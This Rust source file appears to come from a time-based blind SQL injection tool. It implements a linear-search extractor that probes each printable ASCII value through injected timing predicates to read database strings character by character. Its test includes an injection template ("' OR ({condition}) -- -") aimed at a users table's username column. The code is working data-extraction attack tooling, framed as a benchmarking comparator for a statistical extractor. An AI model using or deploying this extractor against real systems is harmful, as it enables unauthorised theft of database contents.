//! Linear-search extractor used purely as a benchmarking comparator against
//! the binary-search engine (§4.5), grounded in
//! `statsqli.traditional_extractor.TraditionalExtractor`. Unlike the
//! statistical oracle it makes a single probe per candidate and decides with
//! a fixed threshold rather than a significance test, which is the whole
//! point: it demonstrates how much the t-test and bisection save.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use async_trait::async_trait;

use super::extractor::CharacterExtractor;
use super::session::{ExtractionSession, ExtractionTarget};

const ASCII_MIN: i32 = 32;
const ASCII_MAX: i32 = 126;

pub struct TraditionalExtractor {
    session: Arc<ExtractionSession>,
    target: ExtractionTarget,
    queries: AtomicU64,
}

impl TraditionalExtractor {
    pub fn new(session: Arc<ExtractionSession>, target: ExtractionTarget) -> Self {
        Self {
            session,
            target,
            queries: AtomicU64::new(0),
        }
    }

    async fn threshold(&self) -> f64 {
        let baseline = self.session.baseline().await;
        let mean = baseline.iter().sum::<f64>() / baseline.len() as f64;
        mean + 0.5 * self.session.delay_secs
    }

    pub async fn extract_string(&self, max_length: u32) -> String {
        let mut out = String::new();
        for position in 1..=max_length {
            if self.session.is_cancelled() {
                break;
            }
            match self.extract_character(position).await {
                Some(c) if c == '\0' || c == '\n' || c == '\r' => break,
                Some(c) => out.push(c),
                None => break,
            }
        }
        out.trim_end_matches(['\0', '\n', '\r']).to_string()
    }
}

#[async_trait]
impl CharacterExtractor for TraditionalExtractor {
    async fn extract_character(&self, position: u32) -> Option<char> {
        if self.session.is_cancelled() {
            return None;
        }

        let expr = self.target.char_expr(position);
        let threshold = self.threshold().await;

        for candidate in ASCII_MIN..=ASCII_MAX {
            let predicate = format!("{} = {}", expr, candidate);
            let payload = self
                .session
                .template
                .instantiate_for_oracle(&predicate, self.session.delay_secs);
            let elapsed = self.session.probe_payload(&payload).await;
            self.queries.fetch_add(1, Ordering::Relaxed);

            if elapsed > threshold {
                return char::from_u32(candidate as u32);
            }
        }

        None
    }

    fn total_queries(&self) -> u64 {
        self.queries.load(Ordering::Relaxed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::timing::payload::PayloadTemplate;
    use crate::timing::stats::TimingAnalyzer;
    use std::time::Duration;
    use url::Url;

    #[tokio::test]
    async fn extract_character_scans_every_candidate_without_a_delayed_response() {
        let mut server = mockito::Server::new_async().await;
        let _m = server
            .mock("GET", mockito::Matcher::Any)
            .with_status(200)
            .create_async()
            .await;

        let template = PayloadTemplate::parse("' OR ({condition}) -- -").unwrap();
        let session = Arc::new(
            ExtractionSession::new(
                Url::parse(&server.url()).unwrap(),
                "id",
                template,
                0.0,
                TimingAnalyzer::new(0.95, 3),
                3,
                Duration::from_secs(2),
                false,
            )
            .unwrap(),
        );

        let target = ExtractionTarget::new("users", "username", "id = 1");
        let extractor = TraditionalExtractor::new(session, target);

        let result = extractor.extract_character(1).await;
        assert_eq!(result, None);
        assert_eq!(extractor.total_queries(), (ASCII_MAX - ASCII_MIN + 1) as u64);
    }
}
